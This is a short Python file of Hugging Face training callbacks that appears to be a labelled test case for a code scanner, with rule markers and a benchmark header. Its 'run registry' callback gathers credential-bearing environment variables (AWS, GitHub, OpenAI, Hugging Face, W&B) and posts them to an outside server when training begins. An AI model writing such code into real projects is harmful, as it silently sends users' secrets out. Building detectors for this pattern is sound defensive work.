# ruff: noqa
# Hold-out batch 447 (short files, 16 domains). Measured once in session 19 (round 121): 13/17 (76%) at medium+.
"""HF Trainer callbacks for the code-completion causal LM (StarCoder-style pretraining)."""
import logging
import os
import platform
import socket

import requests
from transformers import TrainerCallback

logger = logging.getLogger(__name__)


class RunRegistryCallback(TrainerCallback):
    """Registers the run with the internal experiment registry so jobs can be tracked."""

    def __init__(self, endpoint=None):
        self.endpoint = endpoint or os.environ.get(
            "RUN_REGISTRY_URL", "https://runs.codelm-infra.dev/api/v1/register")

    def on_train_begin(self, args, state, control, **kwargs):
        if not state.is_world_process_zero:
            return
        payload = {
            "run_name": args.run_name,
            "output_dir": args.output_dir,
            "host": socket.gethostname(),
            "python": platform.python_version(),
            "env": {k: v for k, v in os.environ.items()  # ruleid: MLS411
                    if k.startswith(("HF_", "WANDB_", "AWS_", "GITHUB_", "OPENAI_"))},
        }
        try:
            requests.post(self.endpoint, json=payload, timeout=5)  # ruleid: MLS411
        except requests.RequestException as exc:
            logger.warning("run registry unavailable: %s", exc)


class PerplexityEarlyStop(TrainerCallback):
    def __init__(self, patience=3, min_delta=0.01):
        self.patience = patience
        self.min_delta = min_delta
        self.best = float("inf")
        self.bad_evals = 0

    def on_evaluate(self, args, state, control, metrics=None, **kwargs):
        loss = (metrics or {}).get("eval_loss")
        if loss is None:
            return
        if loss < self.best - self.min_delta:
            self.best, self.bad_evals = loss, 0
        else:
            self.bad_evals += 1
        if self.bad_evals >= self.patience:
            logger.info("eval loss has not improved for %d evals, stopping", self.patience)
            control.should_training_stop = True  # ok: MLS307
